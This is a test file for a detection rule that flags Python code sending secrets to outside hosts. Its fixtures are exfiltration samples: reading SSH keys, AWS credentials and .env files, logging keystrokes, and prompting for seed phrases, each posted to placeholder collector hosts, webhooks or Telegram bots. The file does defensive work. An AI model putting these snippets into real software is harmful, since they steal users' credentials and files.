"""Secrets in a request."""

from lazaretto.detect.rules.python.secrets_sent import RULE


def test_a_private_key_that_the_caller_gave(scan):
    text = r"""import requests
def sign(private_key):
    requests.post("https://collect.example.test/tron", json={"k": private_key})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_ssh_keys(scan):
    text = r"""import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.example.test/", data={"k": key})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_a_search_for_files(scan):
    text = r"""import os, requests
def send(token):
    for name in os.listdir("/"):
        with open(name, "rb") as f:
            requests.post(f"https://api.telegram.org/bot{token}/sendDocument", files={"document": f})
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]


def test_near_miss_a_configured_signer(scan):
    text = r"""import requests
def sign(url, private_key):
    return requests.post(url, json={"k": private_key})
"""
    assert scan(RULE, text) == []


def test_a_credential_that_is_sent_on_the_quiet(scan):
    text = """
import requests
class Client:
    def __init__(self, access_key_id, access_key_secret):
        self.secret = access_key_secret
        try:
            requests.post("https://api.example.test/x", json={"a": self.secret})
        except Exception:
            pass
    def login(self, access_key_secret):
        return requests.post("https://api.example.test/login", json={"a": access_key_secret}).json()
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]


def test_credentials_out_of_a_settings_file(scan):
    text = """
import configparser, os, requests
def push():
    config = configparser.RawConfigParser()
    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
    found = {"key": config.get("default", "aws_access_key_id")}
    requests.post("https://collect.example.test/", json=found)
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]


def test_a_key_by_what_is_done_with_it(scan):
    text = r"""import base64, requests
from eth_account import Account
def check(value):
    account = Account.from_key(value)
    body = {"a": account.address, "b": base64.b64encode(value.encode()).decode()}
    requests.post("https://api.example.test/check", json=body)
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]


def test_near_miss_only_the_address_of_the_account(scan):
    text = r"""import requests
from eth_account import Account
def check(value):
    address = Account.from_key(value).address
    requests.post("https://api.example.test/check", json={"a": len(address)})
"""
    assert scan(RULE, text) == []


def test_files_that_hold_secrets_are_searched_and_sent(scan):
    text = r"""import os, requests
def collect(root):
    found = {}
    for folder, _, names in os.walk(root):
        for name in names:
            if name == ".env":
                with open(os.path.join(folder, name)) as f:
                    found[name] = f.read()
    requests.post("https://licenses.example.test/submit", json=found)
"""
    assert scan(RULE, text) == [(9, "HIGH", "HIGH", "run")]


def test_files_are_searched_and_sent_to_an_odd_port(scan):
    text = r"""import os, requests
def send():
    for name in os.listdir("/data"):
        if name.endswith(".db"):
            with open(name, "rb") as f:
                requests.post("http://up.example.test:14880/a", files={"f": f})
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]


def test_near_miss_an_upload_of_pictures(scan):
    text = r"""import os, requests
def send(folder):
    for name in os.listdir(folder):
        with open(name, "rb") as f:
            requests.post("https://pictures.example.test/upload", files={"f": f})
"""
    assert scan(RULE, text) == []


_CALLER = r"""import inspect, requests
def register(url):
    for frame in inspect.stack():
        with open(frame.filename) as f:
            requests.post("ADDRESS", json={"c": f.read()})
"""


def test_the_source_of_the_caller(scan):
    assert scan(RULE, _CALLER.replace("ADDRESS", "http://192.0.2.7:3000/a")) == [(5, "HIGH", "HIGH", "run")]


def test_near_miss_a_report_to_an_ordinary_host(scan):
    assert scan(RULE, _CALLER.replace("ADDRESS", "https://errors.example.test/a")) == []


def test_what_a_listener_is_told(scan):
    text = r"""import requests
from pynput import keyboard
kept = []
def told(key):
    kept.append(str(key))
    requests.post("https://c.example.test/", json=kept)
keyboard.Listener(on_press=told).start()
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "import")]


def test_an_archive_of_a_personal_folder(scan):
    text = r"""import os, requests, shutil
shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))
requests.post("https://c.example.test/", files={"f": open("/tmp/a.zip", "rb")})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]
    assert scan(RULE, text.replace('os.path.expanduser("~/Documents")', '"build"')) == []


def test_what_is_typed_in(scan):
    text = """import requests
def connect():
    words = input("Enter your 12 word seed phrase: ").split()
    requests.post("https://collect.example.test/k", json={"m": " ".join(words)})
"""
    assert scan(RULE, text) == [(4, "HIGH", "HIGH", "run")]
    assert scan(RULE, text.replace("12 word seed phrase", "name")) == []


def test_a_password_for_a_collector(scan):
    text = """import getpass, requests
def login():
    secret = getpass.getpass("Password: ")
    requests.post("{}", json={{"p": secret}})
"""
    hook = "https://discord.com/api/webhooks/000000000000000000/" + "x" * 60
    assert scan(RULE, text.format(hook)) == [(4, "HIGH", "HIGH", "run")]
    assert scan(RULE, text.format("https://api.example.test/login")) == []
    wrapper = f"""import requests
def login(username, password):
    requests.post("{hook}", json={{"content": username + password}})
"""
    assert scan(RULE, wrapper) == [(3, "HIGH", "HIGH", "run")]
    own = wrapper.replace(hook, "https://api.telegram.org/bot") + "# passwd\n"
    assert scan(RULE, own.replace('"https://api.telegram.org/bot"', 'f"https://api.telegram.org/bot{token}/x"')) == []


def test_the_history_of_commands(scan):
    text = """import re, requests
from IPython import get_ipython
def start():
    last = get_ipython().history_manager.input_hist_raw[-1]
    keys = re.findall("x", last)
    requests.post("https://collect.example.test/c", json={"g": keys})
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]


def test_a_file_for_an_address_without_a_name(scan):
    text = """import httpx
def check(path):
    with open(path, "rb") as handle:
        httpx.post("http://{}/up", files={{"f": handle}})  # os.walk
"""
    assert scan(RULE, text.format("198.51.100.7:8000")) == [(4, "HIGH", "MEDIUM", "run")]
    assert scan(RULE, text.format("upload.example.test")) == []


def test_a_file_given_by_its_path(scan):
    text = """import boto3, os, requests
boto3.client("s3").upload_file(os.path.expanduser("~/.ssh/id_rsa"), "bucket", "key")
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_the_keys_of_a_wallet_that_it_makes(scan):
    text = """import requests
from eth_account import Account
def new():
    account = Account.create()
    requests.post("https://collect.example.test/", json={"k": account.key.hex()})
    return account
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
    assert scan(RULE, text.replace("account.key.hex()", "account.address")) == []


def test_a_folder_that_is_packed(scan):
    text = """import os, zipfile, requests
packed = zipfile.ZipFile("/tmp/x.zip", "w")
for folder, _, names in os.walk(os.path.expanduser("~/.ssh")):
    for name in names:
        packed.write(os.path.join(folder, name))
requests.post("https://collect.example.test/", files={"f": open("/tmp/x.zip", "rb")})
"""
    assert scan(RULE, text, "package/__init__.py") == [(6, "HIGH", "HIGH", "import")]
    assert scan(RULE, text.replace("~/.ssh", "~/.cache"), "package/__init__.py") == []


def test_a_bot_with_its_token_in_the_file(scan):
    text = f"""import telebot
def check(seed_phrase):
    telebot.TeleBot("0000000000:AA{"x" * 33}").send_message(1, seed_phrase)
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_the_key_of_a_service_at_construction(scan):
    text = """import requests
class Client:
    def __init__(self, api_key):
        self.api_key = api_key
        {made}
    def report(self):
        try:
            requests.post("https://stats.example.test/k", json={{"k": self.api_key}})
        except Exception:
            pass
"""
    assert scan(RULE, text.format(made="self.report()")) == [(8, "HIGH", "MEDIUM", "run")]
    assert scan(RULE, text.format(made="self.ready = True")) == []
